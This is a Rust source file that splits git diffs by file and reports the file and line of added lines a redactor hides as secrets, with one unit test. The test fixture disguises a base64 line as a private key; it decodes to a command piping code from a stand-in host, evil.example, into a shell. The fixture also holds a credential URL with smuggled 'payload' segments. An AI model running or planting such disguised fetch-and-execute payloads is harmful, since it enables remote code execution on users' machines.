//! Splits a diff by file, and finds where a secret is in the way of reading it.

use super::{Delta, FileDelta};
use redraft_facts::prelude::*;
use redraft_facts::redact::{Redactor, SecretKind};

/// The part of a diff that is about one file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileDiff<'a> {
    pub file: FileDelta,
    pub text: &'a str,
    /// Where it stands in the diff.
    start: usize,
}

/// The parts of a diff, in order. A line that begins with the diff's first word begins a file: all lines of a hunk
/// begin with a mark.
pub fn parts(diff: &str) -> Vec<FileDiff<'_>> {
    let mut starts: Vec<usize> = diff.match_indices("\ndiff --git ").map(|(at, _)| at + 1).collect();
    starts.insert(0, 0);
    starts.push(diff.len());
    let of = |ends: &[usize]| {
        let text = diff.get(*ends.first()?..*ends.last()?)?;
        Some(FileDiff { file: Delta::parse(text).files.into_iter().next()?, text, start: *ends.first()? })
    };
    starts.windows(2).filter_map(of).collect()
}

/// A line that a change adds and that is not shown as it is, because it holds what looks like a secret.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hidden {
    pub path: String,
    /// As the line is numbered after the change.
    pub line: u32,
    pub kind: SecretKind,
}

/// The first added line of each secret of a diff.
pub fn hidden(diff: &str, redactor: &Redactor) -> Vec<Hidden> {
    let (_, hits) = redactor.redact(diff);
    let mut all = Vec::new();
    if hits.is_empty() {
        return all;
    }
    for part in parts(diff) {
        let (mut next, mut at) = (0, part.start);
        let mut told: Vec<usize> = Vec::new();
        for line in part.text.split_inclusive('\n') {
            let range = at..at + line.len();
            at = range.end;
            if let Some(start) = new_start(line) {
                next = start;
                continue;
            }
            let added = line.starts_with('+') && next > 0;
            for (number, hit) in hits.iter().enumerate().filter(|_| added) {
                if hit.range.start < range.end && hit.range.end > range.start && !told.contains(&number) {
                    told.push(number);
                    all.push(Hidden { path: part.file.path.clone(), line: next, kind: hit.kind });
                }
            }
            next += u32::from(next > 0 && (added || line.starts_with(' ')));
        }
    }
    all
}

/// The number of the first line of a hunk after the change: `@@ -1,2 +3,4 @@`.
fn new_start(line: &str) -> Option<u32> {
    let (_, after) = line.strip_prefix("@@ -")?.split_once('+')?;
    let digits = after.split(|c: char| !c.is_ascii_digit()).next()?;
    digits.parse::<u32>().ok().map(|start| start.max(1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_hidden_of_a_change_is_told_by_its_file_and_line() {
        let diff = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -7,2 +7,7 @@ def a():\n one\n-two\n+KEY = \"\"\"\n\
                    +-----BEGIN PRIVATE KEY-----\n+aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgZXZpbC5leGFtcGxlIHwgc2giKSAj\n+IFBBWUxPQURNQVJLCg==\n+-----END PRIVATE KEY-----\n+\"\"\"\n\
                    diff --git a/b.sh b/b.sh\nnew file mode 100644\n--- /dev/null\n+++ b/b.sh\n@@ -0,0 +1,2 @@\n+echo hello\n\
                    +echo https://user:hunter2;payload7;a@host/db\n";
        let names: Vec<&str> = parts(diff).iter().map(|part| part.text.lines().next().unwrap()).collect();
        assert_eq!(names, ["diff --git a/a.py b/a.py", "diff --git a/b.sh b/b.sh"]);
        let found = hidden(diff, &Redactor::default());
        let found: Vec<String> = found.iter().map(|one| format!("{}:{}", one.path, one.line)).collect();
        assert_eq!(found, ["a.py:9", "b.sh:2"]);
        let removed = "diff --git a/b.sh b/b.sh\n--- a/b.sh\n+++ b/b.sh\n@@ -1,1 +1,1 @@\n\
                       -echo https://user:hunter2;payload7;a@host/db\n+echo hello\n";
        assert_eq!(hidden(removed, &Redactor::default()), [], "what goes is no part of what comes");
    }
}
